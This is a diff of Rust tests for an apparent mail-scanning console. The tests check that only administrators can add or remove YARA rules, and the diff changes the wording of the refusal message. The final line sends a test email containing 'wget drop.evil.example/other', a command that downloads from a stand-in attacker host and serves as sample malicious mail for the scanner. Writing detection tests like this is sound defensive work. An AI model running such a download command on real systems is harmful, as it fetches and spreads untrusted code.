@@ -123,7 +123,7 @@ fn what_a_sample_reaches_becomes_a_rule_of_yara_that_is_shown_before_it_is_saved
     let page = operator.get(&here);
     assert!(page.contains("Block this file in mail") && !page.contains("<textarea"), "{page}");
     let refused = operator.post(&here, "/rules/add", &[("what", "yara"), ("yara", "rule x { condition: true }")]);
-    assert!(refused.contains("made and removed by administrators"), "{refused}");
+    assert!(refused.contains("Only administrators can make and remove"), "{refused}");
     // An administrator sees the text, and what does not compile is not saved.
     let admin = Visitor::log_in(&console, &[], ("admin", &up.admin_password()));
     let page = admin.get(&here);
@@ -144,7 +144,7 @@ fn what_a_sample_reaches_becomes_a_rule_of_yara_that_is_shown_before_it_is_saved
     assert_eq!(site.json(&["quarantine", "list"])["entries"][0]["queue"], "ext");
     let rule = site.json(&["scan", "rules", "list"])[0]["rule"].to_string();
     let refused = operator.post("/rules", "/rules/remove", &[("rule", &rule)]);
-    assert!(refused.contains("made and removed by administrators"), "{refused}");
+    assert!(refused.contains("Only administrators can make and remove"), "{refused}");
     let removed = admin.post("/rules", "/rules/remove", &[("rule", &rule)]);
     assert!(removed.contains("no longer in force") && removed.contains("Nobody has made a rule"), "{removed}");
     send(&up, "ann@localhost", "wget drop.evil.example/other\n");
